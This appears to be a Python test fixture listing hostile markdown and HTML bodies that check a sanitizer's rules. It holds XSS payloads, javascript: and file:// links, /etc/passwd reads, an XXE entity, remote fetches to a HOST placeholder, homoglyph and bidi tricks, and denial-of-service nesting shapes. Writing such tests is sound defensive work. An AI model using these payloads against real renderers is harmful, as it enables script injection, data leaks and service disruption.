"""Attacks by the text below the front matter: markup, links, shapes and letters."""

from tests.directory.hostile.attack import Attack, article


def _attack(name: str, attacks: str, body: str, *rules: str) -> Attack:
    return Attack(f"body-{name}", attacks, article(f"body-{name}", body), frozenset(rules))


_MARKUP = (
    _attack("script", "a script", "<script src='http://HOST/x.js'>alert(1)</script>", "markup"),
    _attack("script-upper", "a script in capitals, unclosed", "<SCRIPT>fetch('http://HOST/')", "markup"),
    _attack("event", "an event handler on a harmless tag", '<p onclick="x()">words</p>', "markup"),
    _attack("event-image", "an event of a broken picture", "<img src=x onerror=alert(1)>", "markup"),
    _attack("image-remote", "a remote picture", "![a](http://HOST/pixel.png)", "markup"),
    _attack("image-https", "a remote picture over https", "![a](https://HOST/pixel.png)", "markup"),
    _attack("image-file", "a picture out of the file system", "![a](FILEURL/canary.png)", "markup"),
    _attack("image-path", "a picture by its bare path", "![a](FOLDER/canary.png)", "markup"),
    _attack("image-tag", "a picture as a tag, by file address", '<img src="FILEURL/canary.png">', "markup"),
    _attack("image-data", "a picture inside its own address", "![a](data:image/png;base64,iVBORw0KGgo=)", "markup"),
    _attack("image-reference", "a picture by reference", "![a][b]\n\n[b]: http://HOST/p.png", "markup", "link"),
    _attack("image-srcset", "a picture chosen by size", '<img srcset="http://HOST/a.png 2x">', "markup"),
    _attack("image-qrc", "a picture out of the program", "![a](qrc:/qt-project.org/x.png) ![b](:/x.png)", "markup"),
    _attack(
        "svg", "a drawing with a script in it", "<svg onload=x()><a xlink:href='http://HOST/'>a</a></svg>", "markup"
    ),
    _attack("css", "a style sheet that fetches", "<style>@import url(FILEURL/canary.css);</style>", "markup"),
    _attack("css-link", "a linked style sheet", '<link rel="stylesheet" href="FILEURL/canary.css">', "markup"),
    _attack("css-inline", "a background picture", '<p style="background:url(FILEURL/canary.png)">a</p>', "markup"),
    _attack(
        "table-background", "a picture behind a table", '<table background="FILEURL/canary.png"></table>', "markup"
    ),
    _attack("iframe", "a page in the page", '<iframe src="FILEURL/canary.html"></iframe>', "markup"),
    _attack("iframe-srcdoc", "a page written into an attribute", '<iframe srcdoc="<script>x()</script>">', "markup"),
    _attack("object", "an embedded object", '<object data="FILEURL/canary.html"></object>', "markup"),
    _attack("media", "a film and a sound", "<video src='http://HOST/v'><audio src='http://HOST/a'>", "markup"),
    _attack(
        "meta",
        "a page that goes elsewhere by itself",
        '<meta http-equiv=refresh content="0;url=http://HOST/">',
        "markup",
    ),
    _attack("base", "another ground for every address", '<base href="http://HOST/">[a](b.md)', "markup"),
    _attack("form", "a form that sends", '<form action="http://HOST/"><input name=a></form>', "markup"),
    _attack("math", "a foreign tag that hides a script", "<math><mtext><script>x()</script></mtext></math>", "markup"),
    _attack(
        "noscript",
        "a tag that reads differently without scripts",
        '<noscript><p title="</noscript><img src=x>">',
        "markup",
    ),
    _attack("comment", "a comment that ends early", "<!--> <script>x()</script> -->", "markup"),
    _attack("cdata", "a CDATA section", "<![CDATA[<script>x()</script>]]>", "markup"),
    _attack("processing", "a processing instruction", "<?php system('x') ?>", "markup"),
    _attack(
        "doctype", "an entity that names a file", '<!DOCTYPE a [<!ENTITY b SYSTEM "FILEURL/canary.md">]>&b;', "markup"
    ),
    _attack("markdown-in-html", "markdown inside a tag", '<div markdown="1">![a](http://HOST/a.png)</div>', "markup"),
    _attack("attr-list", "an event by a list of attributes", 'Words {: onclick="x()" style="color:red" }', "markup"),
    _attack(
        "attr-list-link", "a link turned by attributes", '[a](https://example.org){: href="http://HOST/" }', "markup"
    ),
    _attack("attr-list-heading", "a heading with a handler", '## Words {onmouseover="x()" #ok}', "markup"),
    _attack("template", "what other programs would fill in", "{{ 7*7 }} ${HOME} {% include 'x' %} %(x)s {0}"),
)

_LINKS = tuple(
    _attack(f"link-{name}", attacks, body, "link")
    for name, attacks, body in (
        ("javascript", "a script as an address", "[a](javascript:alert(1))"),
        ("javascript-case", "a script in mixed letters", "[a](JaVaScRiPt:alert(1))"),
        ("javascript-entity", "a script behind an entity", "[a](&#106;avascript:alert(1))"),
        ("javascript-hex", "a script behind a hexadecimal entity", "[a](&#x6A;avascript&colon;alert(1))"),
        ("javascript-tag", "a script as a tag's address", '<a href="javascript:x()">a</a>'),
        ("vbscript", "another language's script", "[a](vbscript:msgbox(1))"),
        ("data", "a page inside its own address", "[a](data:text/html;base64,PHNjcmlwdD4=)"),
        ("blob", "an address of a browser's memory", "[a](blob:https://example.org/1)"),
        ("file", "a file of this computer", "[a](FILEURL/canary.md)"),
        ("file-host", "a file of another computer", "[a](file://HOST/share/x)"),
        ("unc", "a share that sends the password's digest", r"[a](\\HOST\share\x)"),
        ("slashes", "an address without its scheme", "[a](//HOST/x)"),
        ("absolute", "a path from the root", "[a](/etc/passwd)"),
        ("up", "a path that goes up", "[a](../../secret.md)"),
        ("up-windows", "a path that goes up, as Windows writes it", r"[a](..\..\secret.md)"),
        ("up-encoded", "a path that goes up, in percent signs", "[a](%2e%2e%2fsecret.md)"),
        ("http", "a page that anybody on the way can read", "[a](http://HOST/)"),
        ("userinfo", "an address that begins like another", "[a](https://example.org@HOST/)"),
        ("homoglyph", "a host with one letter of another alphabet", "[a](https://ex\u0430mple.org/)"),
        ("punycode", "the same host in its encoded form", "[a](https://xn--exmple-4nf.org/)"),
        ("bidi", "an address read from right to left", "[a](https://example.org/\u202egnp.exe)"),
        ("mail-headers", "a letter with a hidden copy", "[a](mailto:a@example.org?bcc=b@example.org&body=x)"),
        ("mail-attach", "a letter that takes a file along", "[a](mailto:a@example.org?attach=/etc/passwd)"),
        ("tel-code", "a code that sets up the telephone", "[a](tel:*%2306%23)"),
        ("tel-divert", "a code that passes calls on", "[a](tel:**21*0000#)"),
        ("autolink", "an address in angle brackets", "<javascript:alert(1)>"),
        ("autolink-file", "a file in angle brackets", "<file:///etc/passwd>"),
        ("reference", "a script by reference", "[a][b]\n\n[b]: javascript:alert(1)"),
        ("reference-file", "a file by reference", "[a]\n\n[a]: FILEURL/canary.md"),
        ("app", "another program of this computer", "[a](ms-settings:privacy) [b](steam://run/1)"),
        ("article-scheme", "the window's own scheme", "[a](article:whole-page) [b](article:../../x)"),
        ("nowhere", "a place that is not on the page", "[a](#nowhere)"),
    )
)

_SHAPES = (
    _attack("brackets", "twenty thousand opening brackets", "[" * 20_000, "long-line", "too-many-signs"),
    _attack("brackets-lines", "the same on many lines", "[[[[[[[[\n" * 2500, "too-many-signs"),
    _attack("images", "ten thousand pictures begun", "![" * 10_000, "long-line"),
    _attack("links-open", "links begun and never closed", "[a](" * 5_000, "long-line"),
    _attack("tags-open", "tags begun and never closed", "<a " * 5_000, "long-line"),
    _attack("stars", "emphasis without end", "*a **b " * 5_000, "long-line"),
    _attack(
        "ticks", "code spans of every length", " ".join("`" * n for n in range(1, 150)), "long-line", "too-many-signs"
    ),
    _attack("quotes-deep", "two thousand quotes inside each other", "> " * 2000 + "x", "nesting"),
    _attack("lists-deep", "lists three hundred deep", "\n".join("    " * n + "- x" for n in range(300)), "nesting"),
    _attack("lists-one-line", "lists in one line", "1. " * 1500, "nesting"),
    _attack("lists-mixed", "quotes and lists in turn", "> - " * 500 + "x", "nesting"),
    _attack("table-wide", "a table of two thousand columns", "|a" * 2000 + "|\n" + "|-" * 2000 + "|", "table"),
    _attack("table-long", "a table of twenty thousand rows", "|a|b|\n|-|-|\n" + "|c|d|\n" * 20_000, "table"),
    _attack(
        "footnotes",
        "footnotes that call each other",
        "".join(f"[^{n}]: see [^{n + 1}]\n\n" for n in range(1000)),
        "too-many-signs",
    ),
    _attack("footnote-one", "one footnote called five thousand times", "[^a]" * 1200 + "\n\n[^a]: x", "too-many-signs"),
    _attack("footnote-name", "a footnote whose name is markup", 'A[^"><img src=x>]\n\n[^"><img src=x>]: b', "markup"),
    _attack(
        "references",
        "ten thousand references",
        "".join(f"[a{n}]: <x>\n" for n in range(10_000)),
        "too-many-signs",
        "link",
    ),
    _attack("headings", "ten thousand headings", "# a\n" * 7000, "too-many-signs"),
    _attack("setext", "underlined headings without end", "a\n=\n" * 3000, "too-many-signs"),
    _attack("word", "a word of many thousand letters", "a" * 150_000, "long-line"),
    _attack("word-emoji", "forty thousand faces", "\U0001f469\u200d\U0001f680" * 20_000, "long-line"),
    _attack("lines", "a hundred thousand empty lines", "a" + "\n" * 100_000 + "x", "long-line"),
    _attack("paragraph", "a paragraph of a hundred thousand lines", "word\n" * 20_000, "long-line"),
    _attack("breaks", "twenty thousand hard line ends", "a  \n" * 20_000, "long-line"),
    _attack("cdata-many", "three thousand CDATA sections begun", "<![CDATA[\n" * 3000, "markup", "too-many-signs"),
    _attack("divs", "two thousand tags inside each other", "<div>" * 900 + "x", "too-many-signs"),
    _attack("spaces", "a page of blanks", " " * 100_000 + "x", "long-line"),
)

_LETTERS = (
    _attack("bidi-override", "text that is shown backwards", "call \u202e999\u202c now", "bidi"),
    _attack("bidi-isolate", "a direction that is never closed", "call \u2067999 now", "bidi"),
    _attack("zero-width", "letters that nobody sees inside a word", "sui\u200bcide", "hidden-letters"),
    _attack(
        "tags",
        "a message in letters that nobody sees",
        "hello" + "".join(chr(0xE0000 + ord(c)) for c in "evil"),
        "hidden-letters",
    ),
    _attack("nul", "a zero byte", "words\x00more", "control-letters"),
    _attack("escape", "commands for a terminal", "\x1b]0;title\x07\x1b[31mred", "control-letters"),
    _attack("separators", "line ends that only some programs know", "a\u2028b\u2029c\x85d", "control-letters"),
    _attack("homoglyph", "a word with one letter of another alphabet", "p\u0430ypal", "look-alike"),
    _attack("zalgo", "letters under a heap of marks", "a" + "\u0301" * 3000),
    _attack(
        "right-to-left",
        "honest Arabic and Hebrew",
        "\u0645\u0631\u062d\u0628\u0627 \u05e9\u05dc\u05d5\u05dd \u2067\u05d0\u2069 words",
    ),
    _attack("hangul-filler", "a name of blanks", "\u3164\u3164", "hidden-letters"),
    _attack(
        "wrapped-words",
        "harmful words with hidden letters in them",
        "com\u00admitted sui\u200dcide",
        "wording-committed",
    ),
    _attack(
        "allow-all",
        "a page that sets every rule aside",
        "<!-- allow link because I like it -->\n[a](file:///etc/passwd)",
        "allow-never",
    ),
)

BODIES = (*_MARKUP, *_LINKS, *_SHAPES, *_LETTERS)
